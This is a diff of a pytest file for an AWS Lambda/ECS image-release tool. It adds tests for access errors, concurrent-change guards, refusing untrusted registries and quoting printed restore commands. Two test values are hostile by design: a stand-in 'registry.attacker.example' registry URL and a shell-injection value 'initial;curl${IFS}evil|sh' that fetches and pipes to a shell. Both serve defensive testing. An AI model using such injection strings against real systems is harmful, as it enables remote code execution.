@@ -5,20 +5,29 @@ function's image are exactly what they were before the release began.
 """
 
 import json
+import shlex
 
 import pytest
 
 from app.deploy.exceptions import (
+    AwsAccessError,
     ImageTagNotFoundError,
     InvalidTargetError,
     MalformedTagError,
     ReleaseFailedError,
     RestoreFailedError,
     UnknownImageError,
+    UntrustedRegistryError,
 )
-from app.deploy.release import FAILED_RELEASE_LABEL_PREFIX, result_summary
+from app.deploy.release import result_summary
 
 from .fakes import NEW, NEWER, OLD, FaultyClient, client_error, fail_times, fail_when
+
+
+def tag_writes(ssm, stack, image="lambda"):
+    """PutParameter calls on the image's tag parameter (not its lock or record)."""
+    name = stack.images[image]["tagParameter"]
+    return [c for c in ssm.calls_to("put_parameter") if c["Name"] == name]
 
 
 def test_release_moves_every_function_and_the_parameter(released, make_releaser, events):
@@ -55,7 +64,7 @@ def test_release_of_the_current_tag_is_a_noop(released, make_releaser, events):
 
     assert result.noop
     assert lambda_.calls_to("update_function_code") == []
-    assert ssm.calls_to("put_parameter") == []
+    assert tag_writes(ssm, released) == []
     assert len(released.history("lambda")) == versions_before
     assert ("lambda", "aaaaaaa is already released; nothing to change") in events
     assert "already released; nothing changed" in result_summary(result)
@@ -122,7 +131,8 @@ def test_bad_input_is_refused_before_anything_changes(
     assert raised.value.exit_code == 2
     assert released.state("lambda") == before
     assert lambda_.calls_to("update_function_code") == []
-    assert ssm.calls_to("put_parameter") == []
+    assert tag_writes(ssm, released) == []
+    assert released.lock_value("lambda") is None
 
 
 def test_missing_function_is_bad_input(released, make_releaser):
@@ -132,7 +142,7 @@ def test_missing_function_is_bad_input(released, make_releaser):
     with pytest.raises(InvalidTargetError, match=r"demo-test-lambda-1, named in the deploy"):
         make_releaser(ssm=ssm).release("lambda", NEW, imagedefinitions=None)
 
-    assert ssm.calls_to("put_parameter") == []
+    assert tag_writes(ssm, released) == []
     assert released.recorded_tag("lambda") == OLD
 
 
@@ -146,7 +156,7 @@ def test_reads_report_the_first_failed_step_when_several_fail(released, make_rel
     with pytest.raises(ImageTagNotFoundError, match=r"tag ccccccc is not in ECR repository"):
         make_releaser(ssm=ssm).release("lambda", NEWER, imagedefinitions=None)
 
-    assert ssm.calls_to("put_parameter") == []
+    assert tag_writes(ssm, released) == []
     with pytest.raises(InvalidTargetError, match=r"/demo/test/images/lambda/tag does not exist"):
         make_releaser().release("lambda", NEW, imagedefinitions=None)
 
@@ -184,13 +194,29 @@ def test_aws_error_before_any_change_fails_without_restoring(released, make_rele
     before = released.state("lambda")
     lambda_ = FaultyClient(
         released.lambda_,
-        get_function=fail_when(lambda kw: True, "AccessDeniedException", "GetFunction"),
+        get_function=fail_when(lambda kw: True, "ServiceException", "GetFunction"),
     )
 
     with pytest.raises(ReleaseFailedError, match=r"failed before changing anything") as raised:
         make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)
 
     assert raised.value.exit_code == 1
+    assert lambda_.calls_to("update_function_code") == []
+    assert released.state("lambda") == before
+    assert released.lock_value("lambda") is None
+
+
+def test_access_denied_before_any_change_is_exit_5(released, make_releaser):
+    before = released.state("lambda")
+    lambda_ = FaultyClient(
+        released.lambda_,
+        get_function=fail_when(lambda kw: True, "AccessDeniedException", "GetFunction"),
+    )
+
+    with pytest.raises(AwsAccessError, match=r"could not ask AWS: AccessDeniedException") as e:
+        make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)
+
+    assert e.value.exit_code == 5
     assert lambda_.calls_to("update_function_code") == []
     assert released.state("lambda") == before
 
@@ -217,9 +243,11 @@ def test_kth_function_update_fails_and_everything_is_restored(released, make_rel
     assert e.value.exit_code == 1
     assert released.state("lambda") == before
     assert f"SSM parameter /demo/test/images/lambda/tag back to {OLD!r}" in e.value.restored
-    # The undone version is labelled, so a later rollback never returns to it.
+    # The undone version is recorded, so a later rollback never returns to it; it is
+    # not labelled, since a labelled oldest version blocks the parameter (issue 11.4).
     (undone,) = [v for v in released.history("lambda") if v["Value"] == NEW]
-    assert undone["Labels"] == [f"{FAILED_RELEASE_LABEL_PREFIX}{undone['Version']}"]
+    assert not undone.get("Labels")
+    assert released.failed_record("lambda") == {undone["Version"]: NEW}
 
 
 def test_nth_update_call_fails_whichever_function_it_is(released, make_releaser):
@@ -242,9 +270,12 @@ def test_nth_update_call_fails_whichever_function_it_is(released, make_releaser)
 def test_parameter_put_fails_and_no_function_is_touched(released, make_releaser):
     before = released.state("lambda")
     lambda_ = FaultyClient(released.lambda_)
+    tag_parameter = released.images["lambda"]["tagParameter"]
     ssm = FaultyClient(
         released.ssm,
-        put_parameter=fail_when(lambda kw: True, "InternalServerError", "PutParameter"),
+        put_parameter=fail_when(
+            lambda kw: kw["Name"] == tag_parameter, "InternalServerError", "PutParameter"
+        ),
     )
 
     with pytest.raises(ReleaseFailedError, match=r"InternalServerError") as raised:
@@ -444,3 +475,140 @@ def test_failed_parameter_restore_is_named(released, make_releaser):
     )
     assert set(released.function_images("lambda").values()) == {released.uri("lambda", OLD)}
     assert released.recorded_tag("lambda") == NEW  # exactly what the message says to fix
+
+
+# -- revision guards: a change someone else made is reported, never overwritten -------
+
+
+def test_a_function_changed_since_it_was_read_is_not_overwritten(released, make_releaser):
+    before = released.state("lambda")
+    changed = released.functions("lambda")[2]
+
+    done: list[str] = []
+
+    def infra_changes_it_first(kwargs):
+        # Between this release's read and its update, someone else updates the function.
+        if kwargs["FunctionName"] == changed and not done:
+            done.append(changed)
+            released.lambda_.update_function_configuration(
+                FunctionName=changed, Description="changed by pulumi up"
+            )
+
+    lambda_ = FaultyClient(released.lambda_, update_function_code=infra_changes_it_first)
+
+    with pytest.raises(ReleaseFailedError, match=rf"{changed}: changed by someone else") as e:
+        make_releaser(lambda_=lambda_, max_concurrency=1).release(
+            "lambda", NEW, imagedefinitions=None
+        )
+
+    assert e.value.exit_code == 1
+    assert released.state("lambda") == before
+    config = released.lambda_.get_function(FunctionName=changed)["Configuration"]
+    assert config["Description"] == "changed by pulumi up"
+    assert all(call["RevisionId"] for call in lambda_.calls_to("update_function_code"))
+
+
+def test_a_restore_reports_a_function_someone_else_moved_on(released, make_releaser):
+    functions = released.functions("lambda")
+    moved, failing = functions[0], functions[3]
+    released.push("lambda", NEWER)
+
+    def move_then_fail(kwargs):
+        if kwargs["FunctionName"] == failing:
+            released.set_function_image(moved, released.uri("lambda", NEWER))
+            raise client_error("ServiceException", "UpdateFunctionCode")
+
+    lambda_ = FaultyClient(released.lambda_, update_function_code=move_then_fail)
+
+    with pytest.raises(RestoreFailedError) as raised:
+        make_releaser(lambda_=lambda_, max_concurrency=1).release(
+            "lambda", NEW, imagedefinitions=None
+        )
+
+    (attention,) = raised.value.needs_attention
+    assert attention.startswith(f"Lambda function {moved}: must be set back to")
+    assert "changed by someone else after this release updated it" in attention
+    assert "not overwritten" in attention
+    assert released.function_images("lambda")[moved] == released.uri("lambda", NEWER)
+    assert released.recorded_tag("lambda") == OLD
+
+
+def test_an_update_whose_answer_was_lost_is_not_a_conflict(released, make_releaser):
+    target = released.functions("lambda")[1]
+    answers: list[object] = []
+
+    def lose_first_answer(kwargs, response):
+        if kwargs["FunctionName"] == target and not answers:
+            answers.append(response)  # it landed; the caller never hears so, and retries
+            raise client_error("TooManyRequestsException", "UpdateFunctionCode")
+        return response
+
+    lambda_ = FaultyClient(released.lambda_, rewrite={"update_function_code": lose_first_answer})
+
+    result = make_releaser(lambda_=lambda_).release("lambda", NEW, imagedefinitions=None)
+
+    assert not result.noop
+    assert set(released.function_images("lambda").values()) == {released.uri("lambda", NEW)}
+
+
+# -- the registry comes from AWS, not from the manifest (issue 15.6) --------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "registry.attacker.example/demo-test-web",
+        "999999999999.dkr.ecr.us-east-1.amazonaws.com/demo-test-web",
+        "123456789012.dkr.ecr.eu-west-1.amazonaws.com/demo-test-web",
+    ],
+)
+def test_a_manifest_naming_another_registry_is_refused(stack, make_releaser, tmp_path, url):
+    stack.add_image("web", functions=1, ecs_services=1)
+    stack.push("web", NEW)
+    stack.images["web"]["repositoryUrl"] = url
+    stack.publish_manifest()
+    before = stack.state("web")
+    path = tmp_path / "imagedefinitions.json"
+
+    with pytest.raises(UntrustedRegistryError, match=r"refusing to release from another") as e:
+        make_releaser().release("web", NEW, imagedefinitions=path)
+    with pytest.raises(UntrustedRegistryError):
+        make_releaser().exists("web", NEW)
+
+    assert e.value.exit_code == 2
+    assert "this account and region is '123456789012.dkr.ecr.us-east-1" in str(e.value)
+    assert stack.state("web") == before
+    assert not path.exists()
+    assert stack.lock_value("web") is None
+
+
+# -- printed commands are quoted (issue 15.7) ------------------------------------------
+
+
+def test_printed_restore_commands_quote_every_value(released, make_releaser):
+    hostile = "initial;curl${IFS}evil|sh"
+    parameter = released.images["lambda"]["tagParameter"]
+    released.ssm.put_parameter(Name=parameter, Value=hostile, Type="String", Overwrite=True)
+    failing = released.functions("lambda")[0]
+    lambda_ = FaultyClient(
+        released.lambda_,
+        update_function_code=fail_when(
+            lambda kw: kw["FunctionName"] == failing, "ServiceException", "UpdateFunctionCode"
+        ),
+    )
+    ssm = FaultyClient(
+        released.ssm,
+        put_parameter=fail_when(
+            lambda kw: kw["Value"] == hostile, "InternalServerError", "PutParameter"
+        ),
+    )
+
+    with pytest.raises(RestoreFailedError) as raised:
+        make_releaser(lambda_=lambda_, ssm=ssm).release("lambda", NEW, imagedefinitions=None)
+
+    (attention,) = raised.value.needs_attention
+    command = shlex.join(
+        ["aws", "ssm", "put-parameter", "--overwrite", "--name", parameter, "--value", hostile]
+    )
+    assert f"({command})" in attention
+    assert shlex.split(command)[-1] == hostile  # pasting it runs one program, these arguments
